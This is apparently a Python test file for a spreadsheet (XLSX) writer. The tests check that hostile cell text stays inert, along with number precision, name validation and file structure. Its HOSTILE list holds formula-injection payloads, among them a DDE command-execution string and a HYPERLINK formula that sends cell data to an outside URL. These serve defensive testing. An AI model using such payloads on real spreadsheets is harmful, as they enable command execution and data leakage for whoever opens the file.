"""A written workbook is what every program opens, and no text in it is ever more than a text."""

import io
import re
import zipfile
from typing import Final
from xml.etree import ElementTree as ET

import formualizer
import pytest
from openpyxl.utils.escape import unescape

from roi_calc.calculators import CALCULATORS
from roi_calc.handover.xlsx import (
    Cell,
    Limits,
    NotWritableError,
    Sheet,
    Style,
    address,
    column_letters,
    is_name,
    written,
)
from support.spreadsheets import opened

HOSTILE: Final = (
    '=HYPERLINK("https://example.org/?"&A1,"look")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "<f>1+1</f>",
    "]]></t></is></c>",
    "&amp;=1",
    "_x003D_1+1",
)


def _book(*cells: Cell | None, name: str = "One") -> bytes:
    return written([Sheet(name, [list(cells)])], {}, "Title")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_stays_the_text_that_it_is(text: str) -> None:
    book = _book(Cell(text))
    cell = opened(book)["One"]["A1"]
    assert (cell.data_type, unescape(cell.value)) == ("s", text)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml")
    engine = formualizer.load_workbook_bytes(book)
    assert engine.get_formula("One", 1, 1) is None
    assert isinstance(engine.evaluate_cell("One", 1, 1), str)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@a", "\ta", "\ra", "\na"])
def test_a_text_that_begins_as_a_formula_stays_one_when_it_is_edited(text: str) -> None:
    assert opened(_book(Cell(text)))["One"]["A1"].quotePrefix
    assert not opened(_book(Cell(f"x{text}")))["One"]["A1"].quotePrefix


@pytest.mark.parametrize("character", ["\0", "\x01", "\x0b", "\x1f", "\ud800", "\ufffe"])
def test_what_no_file_can_hold_is_dropped(character: str) -> None:
    assert opened(_book(Cell(f"a{character}b")))["One"]["A1"].value == "ab"


def test_a_text_is_no_longer_than_a_cell() -> None:
    assert len(opened(_book(Cell("a" * 40_000)))["One"]["A1"].value) == 32_000


def test_a_value_of_a_formula_is_as_harmless() -> None:
    book = opened(_book(Cell("<=1&", 'IF(1<2,"<=1&","")')), values=True)
    assert book["One"]["A1"].value == "<=1&"


def test_spaces_and_lines_are_kept() -> None:
    assert opened(_book(Cell("  two\n lines ")))["One"]["A1"].value == "  two\n lines "


@pytest.mark.parametrize("number", [0.0, -0.5, 1e-300, 1e300, 0.1 + 0.2, 123456789012345.0, 1e15])
def test_a_number_is_written_to_its_last_digit(number: float) -> None:
    assert opened(_book(Cell(number)))["One"]["A1"].value == number


@pytest.mark.parametrize("number", [float("nan"), float("inf"), -float("inf")])
def test_what_is_no_number_is_refused(number: float) -> None:
    with pytest.raises(NotWritableError):
        _book(Cell(number))


@pytest.mark.parametrize("name", ["", "a" * 32, "a:b", "a/b", "a[b", "it's'", "'a", "a\0"])
def test_a_name_that_no_sheet_can_have_is_refused(name: str) -> None:
    with pytest.raises(NotWritableError):
        _book(Cell(1), name=name)


def test_two_sheets_do_not_share_a_name() -> None:
    with pytest.raises(NotWritableError):
        written([Sheet("One", []), Sheet("ONE", [])], {}, "")


@pytest.mark.parametrize(
    "name", ["a", "b2", "roi1", "xfd1048576", "r", "c", "r1", "c2", "r1c1", "rc", "true"]
)
def test_an_address_names_no_cell(name: str) -> None:
    assert is_name(name) == (name == "a")
    if name != "a":
        with pytest.raises(NotWritableError):
            written([Sheet("One", [])], {name: "'One'!$A$1"}, "")


def test_the_names_of_our_inputs_and_results_name_cells() -> None:
    names = {name for each in CALCULATORS.values() for name in (*each.fields, *each.results)}
    assert [name for name in names if not is_name(name)] == []


def test_columns_go_on_after_z() -> None:
    assert [column_letters(number) for number in (0, 25, 26, 701, 702)] == [
        "A",
        "Z",
        "AA",
        "ZZ",
        "AAA",
    ]
    assert address(2, 1, is_fixed=True) == "$B$3"


def test_everything_that_a_sheet_can_have_is_read() -> None:
    sheet = Sheet(
        "It's 1 & 2",
        [[Cell("head", style=Style(is_bold=True))], [Cell(0.5, style=Style("0.0%", ink="1F3F9E"))]],
        widths=(30,),
        frozen_rows=1,
        frozen_columns=1,
        is_landscape=True,
        limits={"A2": Limits(0, 1, said='from "0" to 1'), "B2": Limits(options=("a", "b"))},
        warned=("A2:A2",),
    )
    read = opened(written([sheet], {"share": "'It''s 1 & 2'!$A$2"}, "Title <1>"))
    page = read["It's 1 & 2"]
    assert (page.freeze_panes, page.page_setup.orientation, page.print_title_rows) == (
        "B2",
        "landscape",
        "$1:$1",
    )
    assert page["A2"].number_format == "0.0%"
    assert [each.type for each in page.data_validations.dataValidation] == ["decimal", "list"]
    assert read.defined_names["share"].attr_text == "'It''s 1 & 2'!$A$2"
    assert read.calculation.fullCalcOnLoad
    assert read.properties.title == "Title <1>"


def test_a_workbook_is_stored_with_one_date_and_every_part_is_xml() -> None:
    archive = zipfile.ZipFile(io.BytesIO(_book(Cell(1))))
    assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert {entry.compress_type for entry in archive.infolist()} == {zipfile.ZIP_STORED}
    for name in archive.namelist():
        assert ET.fromstring(archive.read(name)).tag  # noqa: S314 - our own
    assert not re.search(rb"<fill/>", archive.read("xl/styles.xml"))
